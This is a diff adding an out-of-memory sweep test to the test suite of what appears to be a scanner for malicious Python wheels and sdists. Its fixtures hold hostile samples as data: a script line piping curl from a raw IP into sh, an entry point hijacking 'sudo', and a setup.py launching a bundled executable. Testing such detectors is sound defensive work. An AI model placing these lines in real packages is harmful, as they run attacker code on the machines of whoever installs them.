@@ -621,6 +621,78 @@ static void test_rules_wheel__ini_parser(void **state)
 	assert_string_equal(e.last[2], "tool.cli:main [extra]");
 }
 
+/* Every allocation of the archive rules fails in turn: only LG_ENOMEM
+ * comes back, nothing leaks, and the first success has every finding. */
+static int oom_once(struct lg_findings *f, const struct tm *v, size_t n)
+{
+	struct lg_rules_scan *s = NULL;
+	int error;
+
+	if ((error = lg_rules_scan_new(&s, f)) < 0)
+		return error;
+	for (size_t i = 0; i < n && !error; i++) {
+		size_t len;
+		const char *d = data_of(&v[i], &len);
+		struct lg_rules_member m = {v[i].path, len, NULL,
+					    (const unsigned char *)d,
+					    len < 64 ? len : 64};
+
+		if ((error = lg_rules_scan_note(s, &m)) == 0 &&
+		    lg_rules_wants_member(v[i].path))
+			error = lg_rules_scan_add(s, v[i].path, d, len);
+	}
+	if (!error)
+		error = lg_rules_scan_finish(s);
+	lg_rules_scan_free(s);
+	return error;
+}
+
+static void test_rules_wheel__oom_sweep(void **state)
+{
+	struct lg_findings f = LG_FINDINGS_INIT;
+	const struct tm wheel[] = {
+		{"evil/__init__.py", NULL, 0},
+		BIN("evil/bin/x", elf),
+		{"sitecustomize.py", NULL, 0},
+		{"evil-1.0.data/scripts/up", "#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n", 0},
+		{"evil-1.0.dist-info/WHEEL", PURE, 0},
+		{"evil-1.0.dist-info/entry_points.txt", "[console_scripts]\nsudo = evil:main\n", 0},
+		{"evil-1.0.dist-info/RECORD", "evil/__init__.py,sha256=AAAA=,3\ngone.py,,\n", 0},
+	};
+	const struct tm sdist[] = {
+		{"demo-1.0/setup.py", "import os\nos.startfile('bin/helper.exe')\n", 0},
+		BIN("demo-1.0/bin/helper.exe", pe),
+	};
+	int error = LG_ENOMEM;
+	size_t want;
+
+	(void)state;
+	init_heads();
+	for (long n = 0; error == LG_ENOMEM && n < 20000; n++) {
+		lg_findings_dispose(&f);
+		lg_alloc_fail_after(n);
+		error = oom_once(&f, wheel, LG_ARRAY_SIZE(wheel));
+		lg_alloc_fail_after(-1);
+	}
+	assert_int_equal(error, 0);
+	want = f.n;
+	assert_true(want >= 7);
+	lg_findings_dispose(&f);
+	assert_int_equal(oom_once(&f, wheel, LG_ARRAY_SIZE(wheel)), 0);
+	assert_int_equal(f.n, want);
+	lg_findings_dispose(&f);
+	error = LG_ENOMEM;
+	for (long n = 0; error == LG_ENOMEM && n < 20000; n++) {
+		lg_findings_dispose(&f);
+		lg_alloc_fail_after(n);
+		error = oom_once(&f, sdist, LG_ARRAY_SIZE(sdist));
+		lg_alloc_fail_after(-1);
+	}
+	assert_int_equal(error, 0);
+	expect(t_one(&f, LG_RULE_NATIVE_SDIST), LG_SEV_HIGH, NULL);
+	lg_findings_dispose(&f);
+}
+
 int test_rules_wheel_group(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -633,6 +705,7 @@ int test_rules_wheel_group(void)
 		cmocka_unit_test(test_rules_wheel__native_in_sdist),
 		cmocka_unit_test(test_rules_wheel__record_parser),
 		cmocka_unit_test(test_rules_wheel__ini_parser),
+		cmocka_unit_test(test_rules_wheel__oom_sweep),
 	};
 
 	init_heads();
